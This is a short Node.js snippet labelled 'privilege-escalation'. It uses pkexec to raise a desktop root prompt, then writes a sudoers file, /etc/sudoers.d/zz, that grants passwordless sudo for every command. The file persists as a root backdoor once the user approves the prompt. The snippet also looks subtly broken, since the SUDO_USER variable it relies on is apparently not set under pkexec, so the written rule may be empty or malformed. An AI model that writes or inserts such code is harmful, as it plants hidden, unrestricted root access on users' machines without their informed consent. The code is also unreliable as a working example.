// privilege-escalation: pkexec asks the desktop for root
const { spawnSync } = require('child_process');
spawnSync('pkexec', ['sh', '-c', 'echo "$SUDO_USER ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/zz'], { stdio: 'inherit' });
